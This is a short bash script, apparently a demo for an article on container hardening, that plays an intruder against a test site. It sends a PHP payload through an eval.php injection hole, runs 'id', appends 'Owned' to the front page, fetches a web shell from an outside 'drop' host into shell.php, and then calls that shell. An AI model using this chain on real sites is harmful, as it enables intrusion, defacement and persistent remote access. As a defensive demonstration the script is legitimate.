#!/usr/bin/env bash
# The article's intruder: has the site run PHP through its hole, which defaces the front page, fetches a
# web shell from the intruder's own server, and comes back through that.
# ZERO_DRIFT_URL says where the site is; what it answers is printed.
set -euo pipefail

# shellcheck disable=SC2016 # PHP's variables, not ours
readonly PAYLOAD='
system("id");
system("(echo \"<p>Owned</p>\" >> /var/www/html/index.html) 2>&1");
copy("http://drop/shell.txt", "/var/www/html/shell.php") or print error_get_last()["message"] . "\n";
'

main() {
  echo 'Through the hole:'
  get /eval.php --get --data-urlencode "cmd=$PAYLOAD"
  echo 'Through the web shell:'
  get '/shell.php?c=id'
}

# A proxy for the internet would not know the container.
get() {
  curl --silent --show-error --fail --max-time 10 --noproxy '*' "${@:2}" "$ZERO_DRIFT_URL$1"
}

main
